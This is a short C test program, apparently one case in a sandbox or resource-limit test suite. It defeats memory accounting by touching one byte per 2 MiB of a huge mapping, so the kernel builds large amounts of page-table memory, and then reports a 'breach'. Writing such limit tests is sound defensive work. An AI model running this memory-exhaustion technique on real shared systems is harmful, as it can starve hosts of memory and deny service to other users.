/* Page tables: a page of them for each 2 MiB of which a byte is read. */
#include "attack.h"

int main(void) {
    enum { TABLES = 4 * MEMORY_MIB * MIB / 4096 };
    size_t step = 2 * MIB;
    prctl(PR_SET_THP_DISABLE, 1, 0, 0, 0);
    volatile char *all =
        mmap(NULL, step * TABLES, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (all == MAP_FAILED) return 5;
    for (size_t i = 0; i < TABLES; i++) (void)all[i * step];
    usleep(100000);
    BREACH("%d MiB of page tables", TABLES / (MIB / 4096));
    return 0;
}
